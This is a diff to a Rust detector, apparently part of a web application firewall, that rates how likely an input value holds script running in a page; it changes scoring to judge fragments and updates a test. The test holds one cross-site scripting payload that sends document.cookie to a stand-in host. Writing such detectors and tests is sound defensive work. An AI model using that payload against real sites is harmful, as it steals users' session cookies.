@@ -7,25 +7,15 @@
 mod script;
 mod tag;
 
-use super::{Finding, Strength, is_document};
+use super::fragment::strongest;
+use super::{Finding, Strength};
 
 /// Tags of a value that are looked at.
 const MAX_TAGS: usize = 2048;
 
 /// How sure it is that a value runs in a page.
 pub(in crate::waf) fn markup(value: &[u8]) -> Option<Finding> {
-    let found = judge(value)?;
-    if !is_document(value) {
-        return Some(found);
-    }
-    // People write about script, and show it; what steals is seldom shown.
-    let is_hostile = found.strength == Strength::Certain && script::is_hostile(&without_code(value));
-    Some(Finding { strength: if is_hostile { Strength::Likely } else { Strength::Possible }, ..found })
-}
-
-/// A text without what Markdown marks as code.
-fn without_code(text: &[u8]) -> Vec<u8> {
-    text.split(|byte| *byte == b'`').step_by(2).flatten().copied().collect()
+    strongest(value, |_, fragment| Some(judge(fragment)?.within(fragment)))
 }
 
 fn judge(value: &[u8]) -> Option<Finding> {
@@ -127,10 +117,10 @@ mod tests {
     }
 
     #[test]
-    fn pages_are_documents() {
-        let page = "<html>\n<body>\n<button onclick=\"save()\">Save</button>\n<script>\nsave = () => {}\n</script>\n</body></html>";
-        assert_eq!(strength(page.as_bytes()), Some(Strength::Possible));
+    fn pages_are_judged_by_their_lines() {
+        let page = "<html>\n<body>\n<h1>Welcome to the shop</h1>\n<script>\nconst save = (cart) => { cart.save(); };\n</script>\n</body></html>";
+        assert!(strength(page.as_bytes()) < Some(Strength::Certain));
         let theft = format!("{page}\n<script>new Image().src='//e.example/'+document.cookie</script>");
-        assert_eq!(strength(theft.as_bytes()), Some(Strength::Likely));
+        assert_eq!(strength(theft.as_bytes()), Some(Strength::Certain));
     }
 }
